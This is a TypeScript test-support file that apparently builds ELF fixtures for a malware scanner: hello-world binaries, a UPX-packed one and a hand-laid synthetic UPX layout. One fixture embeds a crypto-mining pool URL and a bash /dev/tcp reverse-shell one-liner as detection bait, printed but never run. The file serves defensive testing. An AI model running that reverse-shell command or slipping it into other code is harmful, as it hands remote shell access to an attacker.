// Test support (not part of the engine): builds the ELF fixtures the tests need with gcc in a temp
// dir — never committed — and packs one with UPX. Debian bookworm has no upx-ucl package, so when
// `upx` cannot be installed the packed fixture is laid out by hand the way UPX lays out its output
// (no section table, l_info with the `UPX!` magic right after the program headers, the compressed
// program, the $Info/$Id strings and the trailing `UPX!` PackHeader, a RWX decompression segment).
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';

export interface TestBinaries {
  dir: string;
  /** Static, stripped hello world. */
  staticHello: string;
  /** Static, stripped, with a mining-pool URL and a /dev/tcp reverse-shell string. */
  staticMiner: string;
  /** Dynamic (PIE) hello world with symbols. */
  dynamicHello: string;
  /** UPX-packed static hello. */
  upxPacked: string;
  /** 'upx' when the upx tool packed it, 'synthetic-upx-layout' otherwise. */
  upxHow: 'upx' | 'synthetic-upx-layout';
}

const HELLO = '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n';
const MINER = `#include <stdio.h>
#include <string.h>
static const char *pool = "stratum+tcp://pool.example.net:3333";
static const char *back = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
int main(int argc, char **argv) { if (argc > 5) { puts(pool); puts(back); } return (int)strlen(argv[0]) & 1; }
`;

function upxAvailable(): boolean {
  if (spawnSync('upx', ['--version'], { stdio: 'ignore' }).status === 0) return true;
  // Only ask apt when the distribution has the package (bookworm does not): a failing install
  // would hold the dpkg lock that parallel tests wait on.
  if (spawnSync('apt-cache', ['show', 'upx-ucl'], { stdio: 'ignore' }).status !== 0) return false;
  spawnSync('bash', ['scripts/apt-ensure.sh', 'upx-ucl'], { stdio: 'ignore', cwd: repoRoot() });
  return spawnSync('upx', ['--version'], { stdio: 'ignore' }).status === 0;
}

function repoRoot(): string {
  return new URL('../../../../', import.meta.url).pathname;
}

export function buildTestBinaries(): TestBinaries {
  const dir = mkdtempSync(join(tmpdir(), 'yamori-elf-'));
  const gcc = (name: string, src: string, args: string[]): string => {
    const c = join(dir, `${name}.c`);
    const out = join(dir, name);
    writeFileSync(c, src);
    execFileSync('gcc', [...args, '-O1', '-o', out, c], { stdio: 'pipe' });
    return out;
  };
  const staticHello = gcc('static-hello', HELLO, ['-static', '-s']);
  const staticMiner = gcc('static-miner', MINER, ['-static', '-s']);
  const dynamicHello = gcc('dynamic-hello', HELLO, []);
  const upxPacked = join(dir, 'upx-hello');
  let upxHow: TestBinaries['upxHow'] = 'synthetic-upx-layout';
  if (upxAvailable()) {
    execFileSync('upx', ['-q', '-o', upxPacked, staticHello], { stdio: 'pipe' });
    upxHow = 'upx';
  } else {
    writeFileSync(upxPacked, synthUpxElf(readFileSync(staticHello)), { mode: 0o755 });
  }
  return { dir, staticHello, staticMiner, dynamicHello, upxPacked, upxHow };
}

/** An x86-64 ELF laid out as UPX 4 writes it, around a deflated copy of `program`. */
export function synthUpxElf(program: Uint8Array): Buffer {
  const packed = deflateRawSync(program, { level: 9 });
  const info = Buffer.from('\0$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n\0$Id: UPX 4.02 Copyright (C) 1996-2023 the UPX Team. All Rights Reserved. $\n\0');
  const stub = Buffer.alloc(0x300, 0x90); // stands in for the decompressor stub
  const phnum = 3;
  const hdrEnd = 64 + phnum * 56;
  const lInfo = Buffer.alloc(12 + 12 + 12);
  lInfo.writeUInt32LE(0x12345678, 0);
  lInfo.write('UPX!', 4, 'latin1');
  lInfo.writeUInt16LE(0x300, 8);
  lInfo[10] = 14; // version
  lInfo[11] = 22; // UPX_F_LINUX_ELF64_AMD
  lInfo.writeUInt32LE(program.length, 16); // p_info.p_filesize
  lInfo.writeUInt32LE(program.length, 24); // b_info.sz_unc
  lInfo.writeUInt32LE(packed.length, 28); // b_info.sz_cpr
  const packHeader = Buffer.alloc(36);
  packHeader.write('UPX!', 0, 'latin1');
  const body = Buffer.concat([lInfo, packed, stub, info, packHeader]);
  const size = hdrEnd + body.length;
  const base = 0x400000;
  const h = Buffer.alloc(hdrEnd);
  h.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  h.writeUInt16LE(2, 16); // ET_EXEC
  h.writeUInt16LE(62, 18); // x86-64
  h.writeUInt32LE(1, 20);
  h.writeBigUInt64LE(BigInt(base + hdrEnd + lInfo.length + packed.length), 24); // entry in the stub
  h.writeBigUInt64LE(64n, 32); // phoff
  h.writeBigUInt64LE(0n, 40); // shoff: no section table
  h.writeUInt16LE(64, 52);
  h.writeUInt16LE(56, 54);
  h.writeUInt16LE(phnum, 56);
  h.writeUInt16LE(64, 58);
  const ph = (i: number, type: number, flags: number, off: number, vaddr: number, filesz: number, memsz: number): void => {
    const at = 64 + i * 56;
    h.writeUInt32LE(type, at);
    h.writeUInt32LE(flags, at + 4);
    h.writeBigUInt64LE(BigInt(off), at + 8);
    h.writeBigUInt64LE(BigInt(vaddr), at + 16);
    h.writeBigUInt64LE(BigInt(vaddr), at + 24);
    h.writeBigUInt64LE(BigInt(filesz), at + 32);
    h.writeBigUInt64LE(BigInt(memsz), at + 40);
    h.writeBigUInt64LE(0x1000n, at + 48);
  };
  ph(0, 1, 5, 0, base, size, size); // R-X: headers, packed data, stub
  ph(1, 1, 7, 0, base + 0x200000, 0, program.length * 2 + 0x1000); // RWX: where the program is unpacked
  ph(2, 0x6474e551, 6, 0, 0, 0, 0); // PT_GNU_STACK RW
  return Buffer.concat([h, body]);
}
